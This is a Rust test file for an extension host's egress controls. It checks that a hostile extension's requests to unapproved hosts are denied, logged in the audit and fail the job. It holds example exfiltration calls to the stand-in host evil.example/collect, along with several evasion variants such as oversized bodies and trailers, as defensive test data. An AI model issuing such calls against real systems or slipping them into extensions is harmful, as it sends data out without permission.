//! Requests of a hostile extension, and what the audit and the rules of a policy say of them.

use super::{JOB, attempt, trying};
use end_to_end::{Headless, hostile::HOSTILE, job};
use extension_host::egress::Decision;
use extension_host::runner::{Cause, Status};

#[tokio::test(start_paused = true)]
async fn one_that_does_nothing_wrong_succeeds() {
    let (_, report) = attempt("nothing", "").await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
}

#[tokio::test(start_paused = true)]
async fn calling_another_host_is_denied_and_fails_the_job_that_says_success() {
    let (headless, report) = attempt("get", "https://evil.example/collect").await;
    assert_eq!(report.status, Status::Failure(Cause::Denied));
    assert!(
        report.message.contains("evil.example"),
        "{}",
        report.message
    );
    assert!(
        report.message.contains("HttpRequestDenied"),
        "the guest was told: {}",
        report.message
    );
    assert!(report.list.is_none());
    assert_eq!(headless.emulator.requests(), []);
    let audit = headless.audit();
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].decision, Decision::Denied);
    assert_eq!(audit[0].host, "evil.example");
    assert_eq!(audit[0].path, "/collect");
    assert_eq!(audit[0].reason.as_deref(), Some("host"));
    assert_eq!(audit[0].job, 4701);
}

#[tokio::test(start_paused = true)]
async fn one_call_is_denied_without_a_rule_and_answered_with_one() {
    // A host that the emulator plays, and that no inventory in the public cloud needs.
    let elsewhere = "https://login.microsoftonline.us/collect";
    let (headless, report) = attempt("get", elsewhere).await;
    assert_eq!(report.status, Status::Failure(Cause::Denied));
    assert_eq!(headless.emulator.requests(), []);

    let policy = format!(
        "{}\n[[rule]]\nid = \"report\"\njobs = [\"inventory\"]\nmethod = \"GET\"\nurl = \"{elsewhere}\"\n",
        trying("get", elsewhere)
    );
    let headless = Headless::new(HOSTILE, &policy);
    let report = headless.run(&job(JOB)).await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
    assert!(report.message.contains("status 4"), "{}", report.message);
    assert_eq!(headless.audit()[0].decision, Decision::Allowed);
    assert_eq!(headless.audit()[0].rule.as_deref(), Some("report"));
    assert_eq!(headless.emulator.requests().len(), 1);
}

/// However a request to another host is made, it is denied, recorded once, and fails the
/// job; nothing leaves.
#[tokio::test(start_paused = true)]
async fn no_way_of_asking_makes_another_host_reachable_or_forgiven() {
    for way in [
        "oversized-body",
        "trailers",
        "body-never-finished",
        "not-waiting",
    ] {
        let (headless, report) = attempt(way, "https://evil.example/collect").await;
        assert_eq!(
            report.status,
            Status::Failure(Cause::Denied),
            "{way}: {}",
            report.message
        );
        assert!(report.list.is_none(), "{way}");
        assert_eq!(report.traffic.denied, 1, "{way}");
        let audit = headless.audit();
        assert_eq!(audit.len(), 1, "{way}");
        assert_eq!(audit[0].decision, Decision::Denied, "{way}");
        assert_eq!(headless.emulator.requests(), [], "{way}");
    }
}

/// One that is granted, and given up before it was sent, is no denial and no request either.
#[tokio::test(start_paused = true)]
async fn a_granted_request_that_nobody_waits_for_is_recorded_as_not_sent() {
    let one = "https://kv-one.vault.azure.net/certificates/cert-01?api-version=7.6";
    let (headless, report) = attempt("not-waiting", one).await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
    assert_eq!((report.traffic.sent, report.traffic.denied), (0, 0));
    // What was given up is dropped when the runtime comes to it.
    tokio::task::yield_now().await;
    assert_eq!(headless.emulator.requests(), []);
    let audit = headless.audit();
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].decision, Decision::Unsent);
    assert_eq!(audit[0].path, "/certificates/{name}");
    assert_eq!(audit[0].rule, None);
}
